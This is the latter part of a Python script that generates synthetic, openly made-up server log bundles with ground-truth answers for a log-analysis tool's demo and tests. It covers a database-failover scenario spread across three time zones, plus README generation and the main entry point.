       pid=checkpointer, mark="db_error", mark_text='ERROR:  could not write block 91321 in file "base/16402/16817": Input/output error')  # fmt: skip
    for dt_ in (1_204, 2_917, 4_410):
        sector = 1841203712 + rng.randrange(8, 40000) * 8
        dkern(t0 + dt_, f"critical medium error, dev nvme1n1, sector {sector} op 0x1:(WRITE) flags 0x8800 phys_seg {rng.randrange(1, 33)} prio class 2")
    pg(t0 + 2_318, "WARNING:  could not write block 91321 of base/16402/16817#012DETAIL:  Multiple failures --- write error might be permanent.", pid=checkpointer)
    pg(t0 + 2_319, 'ERROR:  could not write block 91321 in file "base/16402/16817": Input/output error#012CONTEXT:  writing block 91321 of relation base/16402/16817', pid=checkpointer)
    pg(panic, 'PANIC:  could not fdatasync file "000000030000004A000000C7": Input/output error', pid=walwriter,
       mark="db_panic", mark_text='PANIC:  could not fdatasync file "000000030000004A000000C7": Input/output error')  # fmt: skip
    pg(panic + 3, f"LOG:  WAL writer process (PID {walwriter}) was terminated by signal 6: Aborted", pid=postmaster)
    pg(panic + 3, "LOG:  terminating any other active server processes", pid=postmaster)
    for i, pid in enumerate((12877, 12880, 12884, 12891, 12893, 13410, 1190)):  # the API's five connections, the exporter, db-2's walsender
        pg(panic + 4 + i, PG_CRASH_WARNING, pid=pid)
    pg(panic + 31, "LOG:  archiver process (PID 1187) exited with exit code 2", pid=postmaster)
    pg(panic + 38, "LOG:  shutting down because restart_after_crash is off", pid=postmaster)
    pg(panic + 41, "LOG:  database system is shut down", pid=postmaster)

    # Patroni restarts PostgreSQL every loop; crash recovery reads the bad blocks and fails
    last_up = _local(last_ckpt, db_off)
    timed_out = False
    for tick, pm_start, listening, fails in cycles:
        patroni(tick, "INFO: Lock owner: db-1; I am db-1")
        if tick - cycles[0][0] >= 300_000:
            patroni(tick + 40, "INFO: Member db-2 exceeds maximum replication lag")
            patroni(tick + 41, "INFO: master start has timed out, but continuing to wait because failover is not possible",
                    mark=None if timed_out else "db_timeout", mark_text="master start has timed out, but continuing to wait because failover is not possible")  # fmt: skip
            timed_out = True
        patroni(tick + 60, "INFO: starting as readonly because i had the session lock")
        pm, sp = f"\x01{tick}", f"\x02{tick}"
        pg(pm_start, f"LOG:  starting {PG_VERSION}", pid=pm)
        pg(listening - 3, 'LOG:  listening on IPv4 address "0.0.0.0", port 5432', pid=pm)
        pg(listening - 2, 'LOG:  listening on Unix socket "/var/run/postgresql/.s.PGSQL.5432"', pid=pm)
        pg(listening + 1, f"LOG:  database system was interrupted; last known up at {last_up:%Y-%m-%d %H:%M:%S} EET", pid=sp)
        pg(listening + 9, "LOG:  entering standby mode", pid=sp)
        pg(listening + 12, "LOG:  database system was not properly shut down; automatic recovery in progress", pid=sp)
        pg(listening + 16, "LOG:  redo starts at 4A/B3D41F20", pid=sp)
        for t in range(listening + rng.randrange(0, 5_000), fails, 5_000):  # db-2's walreceiver retries
            starting_up(t)
        for t in range(listening + rng.randrange(0, 15_000), fails, 15_000):  # postgres_exporter's scrape
            starting_up(t)
        sector = 1841203712 + rng.randrange(8, 40000) * 8
        dkern(fails - 44, f"critical medium error, dev nvme1n1, sector {sector} op 0x0:(READ) flags 0x80700 phys_seg 1 prio class 2")
        dkern(fails - 43, f"Buffer I/O error on device nvme1n1p1, logical block {230150208 + rng.randrange(0, 5000)}")
        pg(fails, 'FATAL:  could not read block 91321 in file "base/16402/16817": Input/output error#012CONTEXT:  WAL redo at 4A/C7D20E18 for Heap/HOT_UPDATE: '
                  "off 14 xmax 48211907 flags 0x10 ; new off 22 xmax 0; blkref #0: rel 1663/16402/16817, blk 91321", pid=sp)  # fmt: skip
        pg(fails + 3, f"LOG:  startup process (PID {sp}) exited with exit code 1", pid=pm)
        pg(fails + 3, "LOG:  aborting startup due to startup process failure", pid=pm)
        pg(fails + 9, "LOG:  database system is shut down", pid=pm)
    # the DBA on call
    ssh_login(b, dbsys, at("01:59:12"), db, "aino", 40873, 2209, 1001, off=db_off)
    sudo(b, dbsys, at("01:59:40"), db, "aino", "/home/aino", "/usr/bin/patronictl -c /etc/patroni/config.yml list", off=db_off)
    sudo(b, dbsys, at("02:00:31"), db, "aino", "/home/aino", "/usr/bin/journalctl -u patroni --since -15min", off=db_off)
    dsys(at("02:00:02.118"), "smartd[702]", "Device: /dev/nvme1, Critical Warning (0x04): Reliability")
    dsys(at("02:00:02.120"), "smartd[702]", "Device: /dev/nvme1, number of Error Log entries increased from 0 to 231")
    sudo(b, dbsys, at("02:01:55"), db, "aino", "/home/aino", "/usr/bin/dmesg -T --level=err", off=db_off)
    sudo(b, dbsys, at("02:04:20"), db, "aino", "/home/aino", "/usr/sbin/smartctl -a /dev/nvme1n1", off=db_off)
    sudo(b, dbsys, at("02:06:02"), db, "aino", "/home/aino", "/usr/bin/patronictl -c /etc/patroni/config.yml list", off=db_off)
    sudo(b, dbsys, pstop - 1_450, db, "aino", "/home/aino", "/usr/bin/systemctl stop patroni", off=db_off)
    dsys(pstop, "systemd[1]", "Stopping patroni.service - Runners to orchestrate a high-availability PostgreSQL...")
    patroni(pstop + 870, "INFO: Leader key released")
    dsys(pstop + 1_080, "systemd[1]", "patroni.service: Deactivated successfully.")
    dsys(pstop + 1_081, "systemd[1]", "Stopped patroni.service - Runners to orchestrate a high-availability PostgreSQL.")
    dsys(pstop + 1_082, "systemd[1]", "patroni.service: Consumed 2min 3.771s CPU time.")
    dsys(pstop + 1_130, "vip-manager[1290]", "IP address 10.0.30.10/24 state is true, desired false")
    dsys(pstop + 1_135, "vip-manager[1290]", "Removing 10.0.30.10/24 from ens5")
    add(dbsys, fix, syslog(fix, db, "sudo", "   aino : TTY=pts/0 ; PWD=/home/aino ; USER=root ; COMMAND=/usr/bin/patronictl -c /etc/patroni/config.yml "
                                             "edit-config --set maximum_lag_on_failover=8589934592 --force", db_off),
        mark="resolution", mark_text="COMMAND=/usr/bin/patronictl -c /etc/patroni/config.yml edit-config --set maximum_lag_on_failover=8589934592")  # fmt: skip
    sudo(b, dbsys, promoted + 21_400, db, "aino", "/home/aino", "/usr/bin/patronictl -c /etc/patroni/config.yml list", off=db_off)
    sudo(b, dbsys, at("02:14:07"), db, "aino", "/home/aino", "/usr/bin/systemctl disable patroni", off=db_off)
    dsys(at("02:14:07.390"), "systemd[1]", "Reloading requested from client PID 52218 ('systemctl') (unit session-2209.scope)...")
    dsys(at("02:14:07.391"), "systemd[1]", "Reloading...")
    dsys(at("02:14:07.702"), "systemd[1]", "Reloading finished in 311 ms.")
    routine_syslog(b, dbsys, rng, db, start, end, off=db_off, cron_pid=81500)

    # ---- lb-1: background error.log lines ------------------------------------------------------
    for t, path in ((at("01:18:44.310"), "/api/v1/invoices/export.csv?year=2023"), (at("02:41:09.882"), "/api/v1/invoices/export.csv?status=paid")):
        wpid, cid = conn.near(t)
        tmp = f"/var/cache/nginx/proxy_temp/{rng.randrange(1, 9)}/{rng.randrange(10, 99)}/00000{rng.randrange(10000, 99999)}"
        add(errlog, t, nginx_error(t, "warn", wpid, cid, f"an upstream response is buffered to a temporary file {tmp} while reading upstream",
                                   client=pop.pick().ip, server=domain, request=f"GET {path} HTTP/2.0", upstream=upstream + path,
                                   host=domain, off=lb_off))  # fmt: skip
    t = at("02:27:31.540")
    wpid, cid = conn.near(t)
    add(errlog, t, nginx_error(t, "error", wpid, cid, "client intended to send too large body: 12582912 bytes", client=pop.pick().ip,
                               server=domain, request="POST /api/v1/attachments HTTP/2.0", host=domain, off=lb_off))  # fmt: skip

    number_pids()
    zones = {access: "-07:00", errlog: "-07:00", applog: "+05:30", appsys: "+05:30", dbsys: "+02:00"}
    assert {fmt_off(o) for o in (lb_off, app_off, db_off)} == set(zones.values())
    order_marks = ["root", "app_first", "lb_first", "err_incident", "db_timeout", "app_restart", "err_refused", "resolution", "app_back", "lb_back"]

    def extra(bundle):
        order = []
        for mark in order_marks:
            path, line, text = bundle.marks[mark]
            t = marks_t[mark]
            order.append({"file": path, "line": line, "ts": fmt_iso_ms(t) if path.endswith(".jsonl") else fmt_rfc3339(second(t)), "text": text})
        shown = [pd_ts(o["ts"]) for o in order]
        assert all(a < b_ for a, b_ in zip(shown, shown[1:])), order
        return {"zones": zones, "order": order}

    window = (second(first_5xx), second(last_5xx) + 1000)
    info = {"t0": t0, "panic": panic, "restart": restart, "pstop": pstop, "fix": fix, "promoted": promoted, "window": window,
            "offs": (lb_off, app_off, db_off), "cycles": len(cycles), "kills": len(kills), "marks_t": marks_t}  # fmt: skip
    return finish(
        b, window, "root", None, "resolution",
        "db-1's NVMe data disk failed writes at 01:47:12 UTC; PostgreSQL panicked and Patroni kept restarting "
        "it into a failing crash recovery instead of failing over (the replica was past maximum_lag_on_failover), "
        "so the API on app-1 answered 502/503/504 through lb-1 until the DBA stopped Patroni on db-1 and let "
        "db-2 take over at 02:09:43 UTC. Three hosts, three zones: lb-1 -07:00, app-1 +05:30, db-1 +02:00.",
        lambda stats, b: db_failover_readme(stats, b, info),
        extra=extra,
    )  # fmt: skip


def pd_ts(text: str) -> int:
    """RFC 3339 UTC (`...Z`, with or without milliseconds) as epoch milliseconds."""
    whole, _, frac = text.rstrip("Z").partition(".")
    d = dt.datetime.strptime(whole, "%Y-%m-%dT%H:%M:%S").replace(tzinfo=UTC)
    return int(d.timestamp()) * 1000 + (int(frac) if frac else 0)


def db_failover_readme(stats, b, info):
    lb_off, app_off, db_off = info["offs"]
    m = info["marks_t"]
    w0, w1 = info["window"]
    inside = [r for r in b.requests if w0 <= second(r.t) < w1]
    by_status = {code: sum(1 for r in inside if r.status == code) for code in (502, 503, 504)}

    def utc(t):
        return fmt_hm(t)

    def lb(t):
        return f"lb-1 {fmt_hm(t, lb_off)}"

    def ap(t):
        return f"app-1 {fmt_hm(t, app_off)}"

    def dbl(t):
        return f"db-1 {fmt_hm(t, db_off)}"

    order = "\n".join(
        f"{i}. `{o['ts']}` `{o['file']}` line {o['line']}: `{o['text']}`" for i, o in enumerate(stats["truth"]["order"], 1)
    )
    return bundle_readme(
        stats, "the database fails over, three time zones tell it",
        "**Saltmarsh Ledger** (made up) sells invoicing software at `ledger.saltmarsh.example`. `lb-1`\n"
        "runs nginx in front of `ledger-api` (gunicorn, 5 sync workers, psycopg2) on `app-1`\n"
        "(`10.0.20.11:8000`), which talks to PostgreSQL 15 through the Patroni-managed address\n"
        "`10.0.30.10`: normally held by the primary `db-1`, with `db-2` as an asynchronous replica (db-2's\n"
        "logs are not in the bundle). Logs cover 2024-03-14 01:00–03:00 UTC.\n\n"
        "**Time zones:** three hosts, three zones, and only two files say which. `lb-1` runs in\n"
        "**America/Los_Angeles** (PDT, **UTC−07:00** since the US switch on 03-10): its access log says\n"
        "`-0700`, its `error.log` is written in the same local time **without a zone**, and both are dated\n"
        "**13 March** (18:00–20:00 local). `app-1` runs in **Asia/Kolkata** (**UTC+05:30**): the app's JSON\n"
        "log carries the offset in every `ts` (`+05:30`), its `syslog` does not. `db-1` runs in\n"
        "**Europe/Helsinki** (EET, **UTC+02:00**; EU summer time starts only on 03-31), and its `syslog` is\n"
        "the **only** file of that host: no year, no zone, nothing on the host to say which. postmortem\n"
        "infers all three: lb-1's `error.log` from the `-0700` of the access log of the same host, app-1's\n"
        "`syslog` from the `+05:30` of `app.jsonl`, and db-1's `syslog` by aligning its burst of\n"
        "`FATAL`/`ERROR` lines with the 5xx burst of the access log (offset +02:00). Read as UTC,\n"
        "db-1's errors land two hours *after* the outage they caused, lb-1's `error.log` seven hours\n"
        "early and app-1's `syslog` five and a half hours late.\n\n"
        "Below, times are UTC first, with the local time of the host that wrote the line.",
        f"- **{utc(info['t0'])}** ({dbl(info['t0'])}) db-1's NVMe data disk starts failing writes\n"
        "  (`nvme1n1: I/O Cmd(0x1) ... I/O Error`, `critical medium error`); the checkpointer cannot write\n"
        "  a block (`ERROR:  could not write block 91321 ...: Input/output error`).\n"
        f"- **{fmt_hm(info['panic'])}** ({dbl(info['panic'])}) the WAL writer's `fdatasync` fails: `PANIC`,\n"
        "  the postmaster terminates every backend and shuts down (`restart_after_crash` is off under\n"
        "  Patroni). The requests in flight on app-1 get `server closed the connection unexpectedly`\n"
        f"  (first at {fmt_iso_ms(m['app_first'])}, {ap(m['app_first'])}).\n"
        f"- **{utc(m['lb_first'])}** ({lb(m['lb_first'])}) lb-1 returns the first **5xx**. ledger-api retries\n"
        "  its connection (GETs up to 6 times with 1-2-4-8-16 s backoff, writes twice): writes fail fast\n"
        "  with **503**, GETs hold their worker past gunicorn's 30 s timeout (`WORKER TIMEOUT` in app-1's\n"
        "  syslog, **502** `upstream prematurely closed connection` at lb-1), and with 5 workers tied up the\n"
        "  rest wait in gunicorn's backlog until nginx's 60 s `proxy_read_timeout` (**504** `upstream timed\n"
        "  out`). Pages and static files, served by lb-1 itself, keep working.\n"
        f"- **{fmt_hm(info['panic'])}–{fmt_hm(info['pstop'])}** Patroni keeps the leader lock and restarts\n"
        f"  PostgreSQL every 10 s ({info['cycles']} times); each crash recovery reads the bad block and\n"
        "  dies (`FATAL:  could not read block 91321`), and every connection that arrives meanwhile is\n"
        "  refused with `FATAL:  the database system is starting up`: a dense burst of error lines on\n"
        f"  db-1 for 20 minutes. From **{utc(m['db_timeout'])}** ({dbl(m['db_timeout'])}) Patroni logs `master\n"
        "  start has timed out, but continuing to wait because failover is not possible`: db-2 is past\n"
        "  `maximum_lag_on_failover` (1 MB), so it will not fail over by itself.\n"
        f"- **{utc(m['app_restart'])}** ({ap(m['app_restart'])}) the on-call restarts `ledger-api`; for five\n"
        "  seconds lb-1 gets `connect() failed (111: Connection refused)` (**502**). It does not help.\n"
        f"- **{utc(info['pstop'])}** ({dbl(info['pstop'])}) the DBA on call stops Patroni on db-1; the leader\n"
        "  key and the address `10.0.30.10` leave db-1, and app-1's connection attempts now time out\n"
        f"  (`timeout expired`). At **{utc(info['fix'])}** she raises `maximum_lag_on_failover` with\n"
        "  `patronictl edit-config`; db-2 takes the leader key, promotes itself and the address.\n"
        f"- **{fmt_iso_ms(m['app_back'])[11:23]}** ({ap(m['app_back'])}) ledger-api reconnects (`database\n"
        f"  connection re-established (server 10.0.30.12`); lb-1 serves API calls again from\n"
        f"  {utc(m['lb_back'])} ({lb(m['lb_back'])}).",
        f"**Outage window: {utc(w0)} → {utc(w1)} UTC** (`[start, end)`): from the first 5xx to the second\n"
        f"after the last one ({fmt_hm(w0, lb_off)} → {fmt_hm(w1, lb_off)} on lb-1's clock). In the window: {by_status[502]} × 502,\n"
        f"{by_status[503]} × 503, {by_status[504]} × 504.\n\n"
        "**The true order** (`order` in truth.json: file, line, UTC time as the line shows it; taken from\n"
        "all five files; assuming UTC for any zone-less file puts at least one of them out of place):\n\n"
        + order + "\n\n"
        f"The database is the cause and comes first: db-1's first error at {utc(info['t0'])}, app-1's first\n"
        f"database error at {fmt_iso_ms(m['app_first'])[11:23]}, lb-1's first 5xx at {utc(m['lb_first'])}; the\n"
        "recovery goes the same way, db → app → lb.",
        "Background: Patroni's `no action` every 10 s, checkpoints every 5 minutes and autovacuum on db-1,\n"
        "two `FATAL:  password authentication failed for user \"metabase\"` (a BI tool with an old\n"
        "password, 01:12) and one duplicate-key `ERROR` (01:24) on db-1, gunicorn recycling workers\n"
        "(`max_requests`), scanners (404/403, `access forbidden by rule`), crawlers, cron and sysstat.",
        "- Three zones, and the dates differ: lb-1's lines say **13 March**, app-1's and db-1's 14 March.\n"
        "- db-1's `syslog` has no other file on its host to lend it a zone; its error burst\n"
        "  (`FATAL:  the database system is starting up`, `FATAL:  could not read block`) lines up with the\n"
        "  5xx of lb-1's access log best at +02:00. PostgreSQL logs to syslog with\n"
        "  `syslog_sequence_numbers = off`, `syslog_split_messages = off` and an empty `log_line_prefix`,\n"
        "  so `DETAIL`/`HINT`/`CONTEXT` arrive on the same line, joined by rsyslog's `#012` (and `#011`\n"
        "  for tabs). `PANIC` is PostgreSQL's highest level; `last known up at ... EET` is local time.\n"
        "- gunicorn's own lines reach app-1's syslog through journald and carry a second, zoned\n"
        "  time inside the message (`[2024-03-14 07:17:50 +0530] [2147] [CRITICAL] WORKER TIMEOUT ...`).\n"
        "- `app.jsonl` tracebacks are in the JSON `exc_info` field; psycopg2's messages hold tabs and\n"
        "  newlines (escaped).\n"
        "- Kernel lines carry the uptime in brackets.",
    )


# ============================================================================================
# main
# ============================================================================================

BUNDLES = {
    "checkout-outage": checkout_outage,
    "oom-kill": oom_kill,
    "db-pool-exhaustion": db_pool_exhaustion,
    "bad-deploy": bad_deploy,
    "disk-full": disk_full,
    "upstream-dead": upstream_dead,
    "quiet-day": quiet_day,
    "db-failover": db_failover,
}


TOP_README_HEAD = """# Sample incident bundles

Realistic, made-up log bundles with their true answers, for the demo (`make demo` drafts
`checkout-outage`) and for the tests (`tests/test_analysis_bundles.py` checks every folder that has a
`truth.json`). Each folder has a `README.md` that tells what happened in plain words and a
`truth.json`:

```
{"bundle", "incident", "window": {"start", "end"} | null, "failed_requests", "failed_requests_total",
 "requests_in_window", "root_cause": {"file", "line", "text"}, "trigger": {...} | null,
 "resolution": {...} | null, "summary"}
```

Times are RFC 3339 UTC; the window is `[start, end)`; `failed_requests` counts access-log lines with
status >= 500 whose (one-second) timestamp lies in the window; `line` is 1-based in the file
(decompressed for `.gz`) and points at the first line of the event that shows the cause.

Everything here is written by one seeded, stdlib-only script; do not edit the bundles by hand:

    python3 sample_logs/make_bundles.py              # all bundles (byte-identical on every run)
    python3 sample_logs/make_bundles.py oom-kill     # one bundle

Addresses come from the documentation ranges (192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24,
2001:db8::/32) and private 10/8; companies and domains (`*.example`) are made up.

"""


def write_top_readme() -> None:
    rows = [
        "| bundle | what happened | outage window (UTC) | 5xx in window / requests in window | 5xx in bundle | lines | size |",
        "|---|---|---|---:|---:|---:|---:|",
    ]
    for name in BUNDLES:
        root = HERE / name
        if not (root / "truth.json").exists():
            continue
        truth = json.loads((root / "truth.json").read_text(encoding="utf-8"))
        files = [p for p in sorted(root.rglob("*")) if p.is_file() and p.name not in ("README.md", "truth.json")]
        lines = sum(
            (gzip.decompress(p.read_bytes()) if p.suffix == ".gz" else p.read_bytes()).count(b"\n")
            for p in files
        )
        size = sum(p.stat().st_size for p in files)
        win = truth["window"]
        window = f"{win['start'][11:19]} → {win['end'][11:19]}" if win else "none (no incident)"
        rows.append(
            f"| [`{name}`]({name}/README.md) | {truth['summary']} | {window} | "
            f"{truth['failed_requests']} / {truth['requests_in_window']} | {truth['failed_requests_total']} | "
            f"{lines} | {size / 1e6:.1f} MB |"
        )
    notes = """
Formats across the bundles: nginx `combined` access logs (one with `$request_time
$upstream_response_time` appended), nginx error logs, RFC 3164 syslog (no year, no PRI), JSON lines
(`ts`, `level`, `service`, `msg`, ...), and Python `logging` text with tracebacks. All servers run
in UTC except in `db-pool-exhaustion`, whose servers run in CET (UTC+1): its access log says `+0100`,
its `error.log` and `syslog` carry CET local time without a zone (postmortem infers +01:00 for
both), and in `db-failover`, whose three hosts run in three zones: `lb-1` in
America/Los_Angeles (UTC−07:00; the access log says `-0700`, `error.log` has no zone), `app-1` in
Asia/Kolkata (UTC+05:30; `app.jsonl` says `+05:30`, `syslog` has no zone) and `db-1` in Europe/Helsinki
(UTC+02:00; its `syslog`, the only file of that host, has no zone: it is found by aligning its error
burst with the 5xx of the access log). Its `truth.json` adds `zones` (each file's UTC offset) and
`order` (marker lines in their true UTC order).
"""
    (HERE / "README.md").write_text(TOP_README_HEAD + "\n".join(rows) + "\n" + notes, encoding="utf-8")


def main(argv: list[str]) -> int:
    names = argv or list(BUNDLES)
    results = []
    for name in names:
        stats = BUNDLES[name]()
        results.append(stats)
        lines = sum(stats["lines"].values())
        t = stats["truth"]
        print(f"{name:20s} {lines:6d} lines {stats['bytes'] / 1e6:5.2f} MB  "
              f"window={t['window'] and (t['window']['start'], t['window']['end'])} "
              f"failed={t['failed_requests']}/{t['requests_in_window']} total5xx={t['failed_requests_total']}")  # fmt: skip
    write_top_readme()
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
